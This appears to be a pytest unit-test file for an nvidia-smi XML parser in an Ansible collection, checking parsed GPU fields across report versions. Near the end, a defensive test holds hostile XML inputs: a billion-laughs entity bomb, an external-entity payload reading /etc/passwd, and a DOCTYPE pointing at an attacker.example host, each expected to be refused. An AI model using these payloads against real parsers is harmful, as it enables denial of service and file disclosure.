"""Unit tests for the nvidia-smi XML parser (module_utils/nvidia_smi.py)."""

import os

import pytest

from ansible_collections.kiln.cluster.plugins.module_utils.nvidia_smi import (
    NvidiaSmiParseError,
    parse_nvidia_smi_xml,
)
from conftest import SHARED_FIXTURES

FIXTURES = os.path.join(SHARED_FIXTURES, "nvidia-smi")

A100_MIG_DEVICES = [
    {"gpu_instance_id": gi, "compute_instance_id": 0, "memory_total_mib": 19968, "multiprocessor_count": 14}
    for gi in (3, 4, 5, 6)
]

NO_MIG = {"mig_capable": False, "mig_mode_current": None, "mig_mode_pending": None, "mig_devices": []}

# Values read by hand from the captured reports.
EXPECTED = {
    "a100-sxm4-v12.xml": (
        "535.54.03",
        "12.2",
        [
            {
                "index": 0,
                "product_name": "NVIDIA A100-SXM4-80GB",
                "uuid": "GPU-513536b6-7d19-9063-b049-1e69664bb298",
                "pci_bus_id": "00000000:01:00.0",
                "pci_device_id": "20B210DE",
                "memory_total_mib": 81920,
                "mig_capable": True,
                "mig_mode_current": "Enabled",
                "mig_mode_pending": "Enabled",
                "mig_devices": A100_MIG_DEVICES,
                "power_draw_w": 67.03,
                "temperature_c": 27,
            }
        ],
    ),
    "tesla-t4.xml": (
        "515.105.01",
        "11.7",
        [
            dict(
                NO_MIG,
                index=0,
                product_name="Tesla T4",
                uuid="GPU-d37e67a5-91dd-3774-a5cb-99096249601a",
                pci_bus_id="00000000:00:1E.0",
                pci_device_id="1EB810DE",
                memory_total_mib=15360,
                power_draw_w=26.78,
                temperature_c=40,
            )
        ],
    ),
    "rtx-3080-v13.xml": (
        "595.58.03",
        "13.2",
        [
            dict(
                NO_MIG,
                index=0,
                product_name="NVIDIA GeForce RTX 3080",
                uuid="GPU-19d6d965-2acc-f646-00f8-4c76979aabb4",
                pci_bus_id="00000000:0C:00.0",
                pci_device_id="221610DE",
                memory_total_mib=10240,
                power_draw_w=142.33,  # v13 instant_power_draw
                temperature_c=27,
            )
        ],
    ),
    "quadro-p2000-v12.xml": (
        "525.125.06",
        "12.0",
        [
            dict(
                NO_MIG,
                index=0,
                product_name="Quadro P2000",
                uuid="GPU-396caaed-39ca-3199-2e68-717cdb786ec6",
                pci_bus_id="00000000:17:00.0",
                pci_device_id="1C3010DE",
                memory_total_mib=5120,
                power_draw_w=4.61,
                temperature_c=34,
            )
        ],
    ),
    # DTD v10, minimal: no versions, no <pci_bus_id> (taken from <gpu id>), power N/A.
    "gtx-1070-ti.xml": (
        None,
        None,
        [
            dict(
                NO_MIG,
                index=0,
                product_name="GeForce GTX 1070 Ti",
                uuid="GPU-f9ba66fc-a7f5-94c5-da19-019ef2f9c665",
                pci_bus_id="00000000:01:00.0",
                pci_device_id=None,
                memory_total_mib=4096,
                power_draw_w=None,
                temperature_c=39,
            )
        ],
    ),
}


def _read_fixture(name):
    with open(os.path.join(FIXTURES, name), "rb") as handle:
        return handle.read()


def _doc(gpus, head=""):
    """A small report with the header nvidia-smi really prints."""
    return (
        '<?xml version="1.0" ?>\n'
        '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">\n'
        "<nvidia_smi_log>%s%s</nvidia_smi_log>\n" % (head, "".join("<gpu>%s</gpu>" % gpu for gpu in gpus))
    )


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_fixture(name):
    driver, cuda, gpus = EXPECTED[name]
    report = parse_nvidia_smi_xml(_read_fixture(name))
    assert report == {"driver_version": driver, "cuda_version": cuda, "gpus": gpus}


def test_a100_fixture_reports_mig_devices():
    gpu = parse_nvidia_smi_xml(_read_fixture("a100-sxm4-v12.xml"))["gpus"][0]
    assert gpu["mig_capable"] is True
    assert len(gpu["mig_devices"]) == 4
    assert sum(dev["multiprocessor_count"] for dev in gpu["mig_devices"]) == 56


def test_accepts_text_as_well_as_bytes():
    text = _read_fixture("tesla-t4.xml").decode("utf-8")
    assert parse_nvidia_smi_xml(text)["gpus"][0]["product_name"] == "Tesla T4"


@pytest.mark.parametrize("placeholder", ["N/A", "[N/A]", "None", "", "  ", "[Not Supported]", "Not Supported"])
def test_placeholders_become_none(placeholder):
    gpu_xml = (
        "<product_name>{0}</product_name><uuid>{0}</uuid>"
        "<pci><pci_bus_id>{0}</pci_bus_id><pci_device_id>{0}</pci_device_id></pci>"
        "<fb_memory_usage><total>{0}</total></fb_memory_usage>"
        "<mig_mode><current_mig>{0}</current_mig><pending_mig>{0}</pending_mig></mig_mode>"
        "<mig_devices>{0}</mig_devices>"
        "<temperature><gpu_temp>{0}</gpu_temp></temperature>"
        "<power_readings><power_draw>{0}</power_draw></power_readings>"
    ).format(placeholder)
    head = "<driver_version>{0}</driver_version><cuda_version>{0}</cuda_version>".format(placeholder)
    report = parse_nvidia_smi_xml(_doc([gpu_xml], head))
    assert report == {
        "driver_version": None,
        "cuda_version": None,
        "gpus": [
            dict(
                NO_MIG,
                index=0,
                product_name=None,
                uuid=None,
                pci_bus_id=None,
                pci_device_id=None,
                memory_total_mib=None,
                power_draw_w=None,
                temperature_c=None,
            )
        ],
    }


def test_empty_elements_and_missing_sections():
    report = parse_nvidia_smi_xml(_doc(["<fb_memory_usage><total/></fb_memory_usage><mig_devices/>", ""]))
    assert [gpu["memory_total_mib"] for gpu in report["gpus"]] == [None, None]
    assert [gpu["mig_devices"] for gpu in report["gpus"]] == [[], []]
    assert [gpu["index"] for gpu in report["gpus"]] == [0, 1]


def test_no_gpus():
    report = parse_nvidia_smi_xml(_doc([], "<driver_version>550.54.15</driver_version>"))
    assert report == {"driver_version": "550.54.15", "cuda_version": None, "gpus": []}


@pytest.mark.parametrize(
    "text, expected",
    [
        ("20B210DE", "20B210DE"),
        ("0x20B210DE", "20B210DE"),
        ("0x20b210de", "20B210DE"),
        (" 1EB810DE ", "1EB810DE"),
        ("20B2", None),
        ("0x20B210DE00", None),
        ("ZZB210DE", None),
    ],
)
def test_pci_device_id_normalised(text, expected):
    gpu = parse_nvidia_smi_xml(_doc(["<pci><pci_device_id>%s</pci_device_id></pci>" % text]))["gpus"][0]
    assert gpu["pci_device_id"] == expected


@pytest.mark.parametrize(
    "text, expected",
    [("81920 MiB", 81920), ("81920MiB", 81920), ("81920", None), ("80 GiB", None), ("1.5 MiB", None), ("lots", None)],
)
def test_memory_needs_whole_mib(text, expected):
    gpu = parse_nvidia_smi_xml(_doc(["<fb_memory_usage><total>%s</total></fb_memory_usage>" % text]))["gpus"][0]
    assert gpu["memory_total_mib"] == expected


@pytest.mark.parametrize(
    "current, pending, capable",
    [
        ("Enabled", "Enabled", True),
        ("Disabled", "Enabled", True),
        ("Disabled", "Disabled", True),
        ("N/A", "N/A", False),
    ],
)
def test_mig_mode(current, pending, capable):
    gpu_xml = "<mig_mode><current_mig>%s</current_mig><pending_mig>%s</pending_mig></mig_mode>" % (current, pending)
    gpu = parse_nvidia_smi_xml(_doc([gpu_xml]))["gpus"][0]
    assert gpu["mig_capable"] is capable
    assert gpu["mig_mode_current"] == (current if capable else None)
    assert gpu["mig_mode_pending"] == (pending if capable else None)


def test_mig_device_without_profile_and_with_na_fields():
    gpu_xml = (
        "<mig_mode><current_mig>Enabled</current_mig><pending_mig>Enabled</pending_mig></mig_mode>"
        "<mig_devices>"
        # no profile name anywhere, as in real reports
        "<mig_device><index>0</index><gpu_instance_id>1</gpu_instance_id>"
        "<compute_instance_id>0</compute_instance_id>"
        "<device_attributes><shared><multiprocessor_count>42</multiprocessor_count></shared></device_attributes>"
        "<fb_memory_usage><total>40192 MiB</total></fb_memory_usage></mig_device>"
        "<mig_device><gpu_instance_id>N/A</gpu_instance_id><compute_instance_id>[N/A]</compute_instance_id>"
        "<device_attributes><shared><multiprocessor_count/></shared></device_attributes>"
        "<fb_memory_usage><total>N/A</total></fb_memory_usage></mig_device>"
        "<mig_device/>"
        "</mig_devices>"
    )
    devices = parse_nvidia_smi_xml(_doc([gpu_xml]))["gpus"][0]["mig_devices"]
    unknown = {
        "gpu_instance_id": None,
        "compute_instance_id": None,
        "memory_total_mib": None,
        "multiprocessor_count": None,
    }
    assert devices == [
        {"gpu_instance_id": 1, "compute_instance_id": 0, "memory_total_mib": 40192, "multiprocessor_count": 42},
        unknown,
        unknown,
    ]


def test_gpus_ordered_by_minor_number():
    gpus = [
        "<product_name>B</product_name><minor_number>1</minor_number>",
        "<product_name>C</product_name><minor_number>2</minor_number>",
        "<product_name>A</product_name><minor_number>0</minor_number>",
    ]
    report = parse_nvidia_smi_xml(_doc(gpus))
    assert [(gpu["index"], gpu["product_name"]) for gpu in report["gpus"]] == [(0, "A"), (1, "B"), (2, "C")]


def test_document_order_when_a_minor_number_is_missing():
    gpus = [
        "<product_name>B</product_name><minor_number>1</minor_number>",
        "<product_name>C</product_name><minor_number>N/A</minor_number>",
        "<product_name>A</product_name><minor_number>0</minor_number>",
    ]
    report = parse_nvidia_smi_xml(_doc(gpus))
    assert [(gpu["index"], gpu["product_name"]) for gpu in report["gpus"]] == [(0, "B"), (1, "C"), (2, "A")]


@pytest.mark.parametrize(
    "power_xml, expected",
    [
        ("<power_readings><power_draw>26.78 W</power_draw></power_readings>", 26.78),  # v10/v11
        ("<gpu_power_readings><power_draw>67.03 W</power_draw></gpu_power_readings>", 67.03),  # v12
        (
            "<gpu_power_readings><average_power_draw>139.62 W</average_power_draw>"
            "<instant_power_draw>142.33 W</instant_power_draw></gpu_power_readings>",
            142.33,
        ),  # v13
        (
            "<gpu_power_readings><average_power_draw>139.62 W</average_power_draw>"
            "<instant_power_draw>N/A</instant_power_draw></gpu_power_readings>",
            139.62,
        ),
        (
            "<gpu_power_readings><power_draw>N/A</power_draw></gpu_power_readings>"
            "<module_power_readings><power_draw>500.00 W</power_draw></module_power_readings>",
            None,
        ),
        ("<power_readings><power_draw>70</power_draw></power_readings>", None),
    ],
)
def test_power_draw_across_dtd_versions(power_xml, expected):
    assert parse_nvidia_smi_xml(_doc([power_xml]))["gpus"][0]["power_draw_w"] == expected


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v10.dtd">',
        '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v13.dtd">',
        "<!DOCTYPE nvidia_smi_log SYSTEM 'nvsmi_device_v11.dtd'>",
        "",
    ],
)
def test_accepted_doctypes(doctype):
    document = '<?xml version="1.0" ?>\n%s\n<nvidia_smi_log><gpu><uuid>GPU-1</uuid></gpu></nvidia_smi_log>' % doctype
    assert parse_nvidia_smi_xml(document)["gpus"][0]["uuid"] == "GPU-1"


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n'
    "<!DOCTYPE nvidia_smi_log [\n"
    ' <!ENTITY lol "lol">\n'
    ' <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
    "]>\n"
    "<nvidia_smi_log><driver_version>&lol3;</driver_version></nvidia_smi_log>\n"
)


@pytest.mark.parametrize(
    "document, reason",
    [
        pytest.param(BILLION_LAUGHS, "entities", id="billion-laughs"),
        pytest.param(
            '<?xml version="1.0"?>\n<!DOCTYPE nvidia_smi_log [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
            "<nvidia_smi_log><driver_version>&xxe;</driver_version></nvidia_smi_log>",
            "entities",
            id="external-entity",
        ),
        pytest.param(
            '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd" [ <!ELEMENT x ANY> ]>\n<nvidia_smi_log/>',
            "DOCTYPE",
            id="internal-subset-after-real-system-id",
        ),
        pytest.param("<!DOCTYPE nvidia_smi_log [ ]>\n<nvidia_smi_log/>", "DOCTYPE", id="empty-internal-subset"),
        pytest.param(
            '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">\n<!ENTITY stray "x">\n<nvidia_smi_log/>',
            "entities",
            id="entity-outside-doctype",
        ),
        pytest.param('<!DOCTYPE foo SYSTEM "nvsmi_device_v12.dtd">\n<foo/>', "DOCTYPE", id="other-doctype-name"),
        pytest.param(
            '<!DOCTYPE nvidia_smi_log SYSTEM "http://attacker.example/evil.dtd">\n<nvidia_smi_log/>',
            "DOCTYPE",
            id="other-system-id",
        ),
        pytest.param(
            '<!DOCTYPE nvidia_smi_log PUBLIC "-//X//Y//EN" "nvsmi_device_v12.dtd">\n<nvidia_smi_log/>',
            "DOCTYPE",
            id="public-id",
        ),
        pytest.param(
            '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">\n'
            '<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">\n<nvidia_smi_log/>',
            "DOCTYPE",
            id="two-doctypes",
        ),
        pytest.param("<!doctype nvidia_smi_log [ ]>\n<nvidia_smi_log/>", "DOCTYPE", id="lower-case"),
    ],
)
def test_refuses_dtd_tricks(document, reason):
    with pytest.raises(NvidiaSmiParseError, match="refusing.*%s" % reason):
        parse_nvidia_smi_xml(document)
    with pytest.raises(NvidiaSmiParseError, match="refusing"):
        parse_nvidia_smi_xml(document.encode("utf-8"))


@pytest.mark.parametrize(
    "document, message",
    [
        ("<nvidia_smi_log><gpu></nvidia_smi_log>", "not well-formed"),
        ("", "not well-formed"),
        ("<foo><gpu/></foo>", "expected an <nvidia_smi_log>"),
        (b"<nvidia_smi_log>\xff</nvidia_smi_log>", "not valid UTF-8"),
    ],
)
def test_refuses_other_documents(document, message):
    with pytest.raises(NvidiaSmiParseError, match=message):
        parse_nvidia_smi_xml(document)
